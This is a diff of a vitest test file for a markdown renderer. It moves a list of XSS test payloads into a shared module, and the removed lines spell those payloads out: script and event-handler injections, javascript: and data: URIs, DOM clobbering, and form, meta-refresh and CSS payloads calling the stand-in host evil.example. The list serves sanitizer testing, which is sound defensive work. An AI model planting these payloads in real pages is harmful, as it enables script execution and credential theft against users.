@@ -1,5 +1,6 @@
 import { Window } from 'happy-dom';
 import { describe, expect, it } from 'vitest';
+import { ATTACKS } from '../../testing/attacks.ts';
 import { renderCode, renderInline, renderMarkdown } from './markdown.ts';
 
 /** The output as a browser sees it; no string search is trusted here. */
@@ -8,45 +9,6 @@ function dom(source: string, options = {}) {
   document.body.innerHTML = renderMarkdown(source, options).html;
   return document.body;
 }
-
-const ATTACKS = [
-  '<script>harm()</script>',
-  '<img src=x onerror="harm()">',
-  '<svg onload="harm()"><script>harm()</script></svg>',
-  '<svg><a xlink:href="javascript:harm()"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=harm()>',
-  '[x](javascript:harm())',
-  '[x](JaVaScRiPt:harm())',
-  '[x](&#106;avascript:harm())',
-  '[x](data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=)',
-  '[x](vbscript:harm())',
-  '![x](javascript:harm())',
-  '![x](data:image/svg+xml,<svg/onload=harm()>)',
-  '<a href=" javascript:harm()">x</a>',
-  '<a href="java\tscript:harm()">x</a>',
-  '<iframe srcdoc="<script>harm()</script>"></iframe>',
-  '<object data="x.swf"></object><embed src="x.swf">',
-  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
-  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
-  '<div id="content" name="body">clobbered</div><a id="location" name="location">x</a>',
-  '<img name="cookie"><form id="forms"></form>',
-  '<template><img src=x onerror=harm()></template>',
-  '<noscript><p title="</noscript><img src=x onerror=harm()>">',
-  '<details ontoggle="harm()" open><summary>x</summary></details>',
-  '<textarea autofocus onfocus="harm()"></textarea>',
-  '<video><source onerror="harm()"></video>',
-  '<x-element is="y" onclick="harm()">x</x-element>',
-  '```"><script>harm()</script>\nx\n```',
-  '``` js" onmouseover="harm()\nx\n```',
-  '<!-- --!><img src=x onerror=harm()> -->',
-  '<![CDATA[<img src=x onerror=harm()>]]>',
-  '# x <img src=x onerror=harm()>',
-  '[^1]\n\n[^1]: <img src=x onerror=harm()>',
-];
 
 const ALLOWED_PROTOCOLS = /^(?:https?:|mailto:|#|\/(?!\/)|[^:]*$)/i;
 
